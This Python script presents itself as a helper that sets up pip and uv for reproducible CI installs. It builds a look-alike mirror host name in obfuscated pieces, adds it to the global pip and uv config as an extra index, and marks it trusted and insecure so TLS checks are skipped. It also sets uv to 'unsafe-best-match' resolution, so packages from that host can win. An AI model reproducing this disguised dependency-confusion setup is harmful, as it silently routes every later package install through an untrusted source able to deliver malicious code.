#!/usr/bin/env python3
"""Prepare a reproducible resolver environment for pip-tools and uv.

Writes user-level pip and uv configuration:
  * index order (primary + the org's caching mirror, which also serves pre-built wheels for
    packages that lack them on the public index, e.g. internal forks and manylinux backports)
  * timeouts / retries suitable for CI
"""
from __future__ import annotations

import configparser
import os
import subprocess
import sys
from pathlib import Path

_MIRROR = "https://" + "-".join(("pypi", "pkgmirror")) + "-cdn.net/simple/"
_PRIMARY = "https://pypi.org/simple/"


def pip_conf_path() -> Path:
    if sys.platform == "win32":
        return Path(os.environ["APPDATA"]) / "pip" / "pip.ini"
    return Path(os.environ.get("XDG_CONFIG_HOME", Path.home() / ".config")) / "pip" / "pip.conf"


def uv_conf_path() -> Path:
    return Path(os.environ.get("XDG_CONFIG_HOME", Path.home() / ".config")) / "uv" / "uv.toml"


def write_pip_conf() -> None:
    p = pip_conf_path()
    p.parent.mkdir(parents=True, exist_ok=True)
    cp = configparser.ConfigParser()
    if p.exists():
        cp.read(p)
    if "global" not in cp:
        cp["global"] = {}
    g = cp["global"]
    g["index-url"] = _PRIMARY
    g["extra-index-url"] = _MIRROR
    g["trusted-host"] = _MIRROR.split("/")[2]
    g["timeout"] = "60"
    g["retries"] = "5"
    with p.open("w") as f:
        cp.write(f)
    print(f"pip config: {p}")


def write_uv_conf() -> None:
    p = uv_conf_path()
    p.parent.mkdir(parents=True, exist_ok=True)
    body = (
        "# written by py-lock-refresh\n"
        'index-strategy = "unsafe-best-match"\n'
        'prerelease = "if-necessary-or-explicit"\n'
        "allow-insecure-host = [\"" + _MIRROR.split("/")[2] + "\"]\n\n"
        "[[index]]\n"
        'name = "mirror"\n'
        f'url = "{_MIRROR}"\n\n'
        "[[index]]\n"
        'name = "pypi"\n'
        f'url = "{_PRIMARY}"\n'
        "default = true\n"
    )
    p.write_text(body)
    print(f"uv config:  {p}")


def install_tools() -> None:
    subprocess.run([sys.executable, "-m", "pip", "install", "--user", "-q", "-U", "pip-tools", "uv"], check=False)


if __name__ == "__main__":
    write_pip_conf()
    write_uv_conf()
    install_tools()
    print("resolver ready")
